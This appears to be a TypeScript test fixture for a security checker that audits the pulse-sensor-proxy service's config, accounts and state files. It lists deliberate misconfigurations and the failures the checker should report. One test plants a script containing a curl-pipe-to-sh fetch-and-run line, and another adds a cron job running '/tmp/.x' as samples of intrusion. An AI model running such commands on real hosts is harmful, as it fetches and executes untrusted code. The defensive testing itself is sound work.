import {parseTreeSpec} from '../../../src/host/tree.js'
import {ACCOUNTS} from '../../helpers/tree.js'
import type {ExpectedFailure, PulseBreak} from './break.js'

const P = 'pulse-sensor-proxy'
const S = `/var/lib/${P}`
const CONFIG = `/etc/${P}/config.yaml`
const JOURNAL = `${S}/ssh.d/rotation.json`

/** config.yaml as seed 004 writes it ("Configure allowed subnets", "Configuration Validation"). */
export const SEED_CONFIG = `allowed_source_subnets:
  - "192.168.0.0/24" # LAN subnet
  - "10.0.0.0/8" # VPN subnet
metrics_address: "127.0.0.1:9127"
`

const indent = (text: string) => text.replace(/^(?=.)/gm, '      ')

/**
 * Seed tree entries (YAML list items) that a host hardened as seed 004 describes has for the
 * PSP-ACCOUNT, PSP-CONF and the proxy's PSP-FILE checks. The seed tree stages a key in
 * ssh.d/next: this host is in the middle of a rotation, so it has the rotation journal too.
 */
export const ENTRIES = `
  - {path: /etc/${P}, type: dir}
  - path: ${CONFIG}
    content: |
${indent(SEED_CONFIG)}
  - {path: ${JOURNAL}, mode: "0600", owner: ${P}, content: "{\\"phase\\": \\"staged\\"}\\n"}
  - path: /etc/crontab
    content: |
      SHELL=/bin/sh
      PATH=/usr/local/sbin:/usr/local/bin:/sbin:/bin:/usr/sbin:/usr/bin
      17 *	* * *	root	cd / && run-parts --report /etc/cron.hourly
      @reboot root /usr/local/sbin/firstboot
  - {path: /etc/cron.d/e2scrub_all, content: "30 3 * * 0 root test -e /run/systemd/system || /usr/lib/e2fsprogs/e2scrub_all_cron\\n"}
  - {path: /var/spool/cron/crontabs, type: dir, mode: "1730"}
  - {path: /var/spool/cron/crontabs/alice, owner: alice, mode: "0600", content: "# m h dom mon dow command\\n0 * * * * pminfo -f kernel.all.load\\n"}
`

const seedAccount = (path: string) =>
  parseTreeSpec(`entries:${ACCOUNTS}`, 'accounts').entries.find((e) => e.path === path)?.content ?? ''
const PASSWD = seedAccount('/etc/passwd')
const GROUP = seedAccount('/etc/group')
const PROXY_PASSWD = `${P}:x:997:997::/nonexistent:/usr/sbin/nologin`

const config = (content: string) => ({path: CONFIG, content})
const passwd = (content: string) => ({path: '/etc/passwd', content})
const group = (content: string) => ({path: '/etc/group', content})
const conf = (check: string, line?: number, message?: RegExp): ExpectedFailure => ({
  check,
  path: CONFIG,
  ...(line === undefined ? {} : {line}),
  ...(message ? {message} : {}),
})

const CONF_CHECKS = [1, 2, 3, 4, 5, 6, 7, 8, 9, 10].map((n) => `PSP-CONF-${String(n).padStart(3, '0')}`)

/** Each way to break the seed tree that a PSP-ACCOUNT, PSP-CONF and the proxy's PSP-FILE check must report, with every failure it causes. */
export const BREAKS: PulseBreak[] = [
  {
    name: 'metrics endpoint on every interface',
    with: [config(SEED_CONFIG.replace('"127.0.0.1:9127"', '":9127"'))],
    fails: [
      conf('PSP-CONF-001', 4, /":9127" puts the unauthenticated \/metrics endpoint on every interface/),
    ],
  },
  {
    name: 'metrics endpoint on a LAN address',
    with: [config(SEED_CONFIG.replace('127.0.0.1', '192.168.0.5'))],
    fails: [conf('PSP-CONF-001', 4, /on 192\.168\.0\.5, not on loopback/)],
  },
  {
    name: 'allowed_source_subnets 0.0.0.0/0',
    with: [config(SEED_CONFIG.replace('192.168.0.0/24', '0.0.0.0/0'))],
    fails: [
      conf('PSP-CONF-002', 2, /0\.0\.0\.0\/0 lets the proxy's key log in to every node from any address/),
    ],
  },
  {
    name: 'allowed_source_subnets ::/0 and a /4',
    with: [
      config(`${SEED_CONFIG}`.replace('  - "10.0.0.0/8" # VPN subnet\n', '  - "::/0"\n  - 64.0.0.0/4\n')),
    ],
    fails: [
      conf('PSP-CONF-002', 3, /::\/0 lets/),
      conf('PSP-CONF-002', 4, /64\.0\.0\.0\/4 is wider than \/8/),
    ],
  },
  {
    name: 'allowed_source_subnets left to auto-detection',
    with: [config('metrics_address: "127.0.0.1:9127"\n')],
    fails: [conf('PSP-CONF-003', undefined, /auto-detects the addresses this host has when it starts/)],
  },
  {
    name: 'no config.yaml at all',
    without: [CONFIG],
    fails: [conf('PSP-CONF-003', undefined, /^no allowed_source_subnets/)],
  },
  {
    name: "a container's mapped uid among the admin peers",
    with: [config(`${SEED_CONFIG}allowed_peer_uids: [0, 997, 101000]\n`)],
    fails: [conf('PSP-CONF-004', 5, /uid 101000 gets every capability, admin RPCs included/)],
  },
  {
    name: "alice's group among the admin peers",
    with: [config(`${SEED_CONFIG}allowed_peer_gids:\n  - 1000\n`)],
    fails: [conf('PSP-CONF-004', 6, /every process whose group is 1000 \(alice\) gets every capability/)],
  },
  {
    name: 'an allowed_peers entry with admin',
    with: [config(`${SEED_CONFIG}allowed_peers:\n  - uid: 1000\n    capabilities: [read, admin]\n`)],
    fails: [conf('PSP-CONF-004', 7, /uid 1000 \(alice\) is given the admin capability/)],
  },
  {
    name: 'ID-mapped root widened to alice',
    with: [config(`${SEED_CONFIG}allowed_idmap_users: [root, alice]\n`)],
    fails: [conf('PSP-CONF-005', 5, /every uid in alice's subordinate ranges/)],
  },
  {
    name: 'an HTTP token in a config.yaml every user can read',
    with: [config(`${SEED_CONFIG}http_auth_token: 4f9c2a\n`)],
    fails: [
      conf(
        'PSP-CONF-006',
        5,
        /http_auth_token is written in the file and every user can read it \(mode 0644\)/,
      ),
    ],
  },
  {
    name: 'a control-plane token file every user can read',
    with: [
      config(`${SEED_CONFIG}pulse_control_plane:\n  url: https://pulse.example.com:7655\n`),
      {path: `/etc/${P}/.pulse-control-token`, mode: 0o644, content: 'token\n'},
    ],
    fails: [
      {
        check: 'PSP-CONF-006',
        path: `/etc/${P}/.pulse-control-token`,
        message: /control-plane token .* every user can read it/,
      },
    ],
  },
  {
    name: 'the control plane over plain HTTP without verification',
    with: [
      config(`${SEED_CONFIG}pulse_control_plane:\n  url: http://pulse:7655\n  insecure_skip_verify: true\n`),
    ],
    fails: [conf('PSP-CONF-007', 6, /is plain HTTP/), conf('PSP-CONF-007', 7, /accepts any certificate/)],
  },
  {
    name: 'metrics_address written twice',
    with: [config(`${SEED_CONFIG}metrics_address: "127.0.0.1:9127"\n`)],
    fails: [
      conf('PSP-CONF-008', 5, /mapping key "metrics_address" already defined at line 4.*does not start/),
    ],
  },
  {
    name: 'a quoted peer uid and an invalid subnet',
    with: [config(`${SEED_CONFIG.replace('10.0.0.0/8', '10.0.0.0/33')}allowed_peer_uids: ["0"]\n`)],
    fails: [
      conf('PSP-CONF-008', 3, /"10\.0\.0\.0\/33" is not an address or CIDR/),
      conf('PSP-CONF-008', 5, /cannot decode the quoted string "0" into a uint32/),
    ],
  },
  {
    name: 'config.yaml that is not YAML',
    with: [config(`${SEED_CONFIG}allowed_peer_uids: [0\n`)],
    fails: CONF_CHECKS.map((check) =>
      conf(check, undefined, /^line \d+: YAML syntax: .* the proxy refuses the file/),
    ),
  },
  {
    name: 'another user with the proxy uid',
    with: [passwd(`${PASSWD}backup:x:997:34::/var/backups:/usr/sbin/nologin\n`)],
    fails: [{check: 'PSP-ACCOUNT-001', path: '/etc/passwd', line: 5, message: /backup has the same uid 997/}],
  },
  {
    name: 'the service account with a login shell',
    with: [passwd(PASSWD.replace(PROXY_PASSWD, `${P}:x:997:997::/nonexistent:/bin/bash`))],
    fails: [{check: 'PSP-ACCOUNT-002', path: '/etc/passwd', line: 3, message: /login shell "\/bin\/bash"/}],
  },
  {
    name: 'the service account at home in its state directory',
    with: [passwd(PASSWD.replace('/nonexistent', S))],
    fails: [
      {
        check: 'PSP-ACCOUNT-003',
        path: '/etc/passwd',
        line: 3,
        message: /exists and belongs to pulse-sensor-proxy/,
      },
    ],
  },
  {
    name: 'the service account with a home it can create',
    with: [passwd(PASSWD.replace('/nonexistent', `${S}/home`))],
    fails: [
      {
        check: 'PSP-ACCOUNT-003',
        path: '/etc/passwd',
        line: 3,
        message: /does not exist, but pulse-sensor-proxy can create it in \/var\/lib\/pulse-sensor-proxy$/,
      },
    ],
  },
  {
    name: 'alice in the proxy group, the proxy in adm',
    with: [group(GROUP.replace('adm:x:4:', `adm:x:4:${P}`).replace(`${P}:x:997:`, `${P}:x:997:alice`))],
    fails: [
      {check: 'PSP-ACCOUNT-004', path: '/etc/group', line: 2, message: /also a member of adm/},
      {
        check: 'PSP-ACCOUNT-004',
        path: '/etc/group',
        line: 4,
        message: /alice is a member of pulse-sensor-proxy/,
      },
    ],
  },
  {
    name: "the proxy in www-data, as Pulse's installer puts it (pvecm on the cluster IPC)",
    with: [group(`${GROUP}www-data:x:33:${P}\n`)],
    fails: [],
  },
  {
    name: 'the service account in the root group',
    with: [passwd(PASSWD.replace(PROXY_PASSWD, `${P}:x:997:0::/nonexistent:/usr/sbin/nologin`))],
    fails: [{check: 'PSP-ACCOUNT-004', path: '/etc/passwd', line: 3, message: /primary group is gid 0/}],
  },
  {
    name: 'a stale pulse-proxy account',
    with: [passwd(`${PASSWD}pulse-proxy:x:996:996::/var/lib/pulse-proxy:/usr/sbin/nologin\n`)],
    fails: [
      {check: 'PSP-ACCOUNT-005', path: '/etc/passwd', line: 5, message: /old proxy account pulse-proxy/},
    ],
  },
  {
    name: 'a staged key left by a rotation that stopped',
    without: [JOURNAL],
    fails: [{check: 'PSP-FILE-006', path: `${S}/ssh.d/next/id_ed25519`, message: /no rotation in progress/}],
  },
  {
    name: 'the previous key kept after the rotation',
    without: [JOURNAL, `${S}/ssh.d/next/id_ed25519`],
    with: [{path: `${S}/ssh.d/prev/id_ed25519`, mode: 0o600, owner: P, group: P, content: 'old\n'}],
    fails: [
      {
        check: 'PSP-FILE-007',
        path: `${S}/ssh.d/prev/id_ed25519`,
        message: /previous private key is still kept \(0 day/,
      },
    ],
  },
  {
    name: 'unknown files in the state directory',
    with: [
      {path: `${S}/.cache`, type: 'dir', mode: 0o700, owner: P, group: P},
      {path: `${S}/.cache/payload`, owner: P, group: P, content: 'x\n'},
      {path: `${S}/ssh/id_ed25519.bak`, mode: 0o600, owner: P, group: P, content: 'copy\n'},
    ],
    fails: [
      {check: 'PSP-FILE-008', path: `${S}/.cache`, message: /unexpected directory/},
      // Inside an unexpected directory each entry is named, not only the directory.
      {check: 'PSP-FILE-008', path: `${S}/.cache/payload`, message: /unexpected file/},
      {check: 'PSP-FILE-008', path: `${S}/ssh/id_ed25519.bak`, message: /unexpected file/},
    ],
  },
  {
    name: 'an executable and a script planted below the state directory',
    with: [
      {path: `${S}/.local`, type: 'dir', mode: 0o700, owner: P, group: P},
      {path: `${S}/.local/bin`, type: 'dir', mode: 0o700, owner: P, group: P},
      {path: `${S}/.local/bin/agent`, mode: 0o755, owner: P, group: P, content: '\x7fELF\n'},
      {path: `${S}/.local/run`, mode: 0o600, owner: P, group: P, content: '#!/bin/sh\ncurl -s x | sh\n'},
    ],
    fails: [
      {check: 'PSP-FILE-008', path: `${S}/.local`, message: /unexpected directory/},
      {check: 'PSP-FILE-008', path: `${S}/.local/bin`, message: /unexpected directory/},
      {
        check: 'PSP-FILE-008',
        path: `${S}/.local/bin/agent`,
        message: /unexpected executable .*read it first/,
      },
      {check: 'PSP-FILE-008', path: `${S}/.local/run`, message: /unexpected script .*read it first/},
    ],
  },
  {
    name: "the cleanup request and lock of Pulse's installer are not unexpected",
    with: [
      {path: `${S}/cleanup-request.json`, mode: 0o600, owner: P, group: P, content: '{"host":""}\n'},
      {path: `${S}/cleanup.lock`, mode: 0o644, content: ''},
    ],
    fails: [],
  },
  {
    name: 'cron jobs running as the proxy account',
    with: [
      {
        path: `/var/spool/cron/crontabs/${P}`,
        owner: P,
        mode: 0o600,
        content: 'MAILTO=""\n*/5 * * * * /tmp/.x\n',
      },
      {path: '/etc/cron.d/sensors', content: `# keep\n@hourly ${P} /usr/local/bin/push\n`},
    ],
    fails: [
      {
        check: 'PSP-FILE-009',
        path: `/var/spool/cron/crontabs/${P}`,
        line: 2,
        message: /a cron job of pulse-sensor-proxy/,
      },
      {check: 'PSP-FILE-009', path: '/etc/cron.d/sensors', line: 2, message: /runs as pulse-sensor-proxy/},
    ],
  },
]
